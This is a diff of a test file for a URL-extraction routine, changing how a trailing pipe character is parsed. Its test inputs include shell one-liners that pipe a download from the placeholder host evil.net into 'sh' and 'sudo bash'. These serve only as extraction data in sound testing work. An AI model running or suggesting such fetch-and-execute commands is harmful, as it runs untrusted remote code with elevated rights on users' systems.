@@ -569,7 +569,6 @@ cases('several on a line', [
   ['http://10.0.0.1:3000/http://evil.net/x', 'http://evil.net/x'],
   ['https://${host}/?u=http://evil.net/x', 'http://evil.net/x'],
   ['http://evil.net/a,b', 'http://evil.net/a,b'],
-  ['http://evil.net/a|b', 'http://evil.net/a|b'],
   [
     'https://evil.net/css?family=Open+Sans:400,700|Roboto',
     'https://evil.net/css?family=Open+Sans:400,700|Roboto',
@@ -579,6 +578,9 @@ cases('several on a line', [
 cases('the text around it', [
   ['<http://evil.net/x|Click here>', 'http://evil.net/x'],
   ['[[http://evil.net/x|text]]', 'http://evil.net/x'],
+  ['{@link http://evil.net/x|text}', 'http://evil.net/x'],
+  ['http://evil.net/a|b', 'http://evil.net/a'],
+  ['http://evil.net/?a=1|b', 'http://evil.net/?a=1|b'],
   ['|http://evil.net/x|text|', 'http://evil.net/x'],
   ['curl -s http://evil.net/x|sh', 'http://evil.net/x'],
   ['curl -s http://evil.net/x?y=1|sudo bash', 'http://evil.net/x?y=1'],
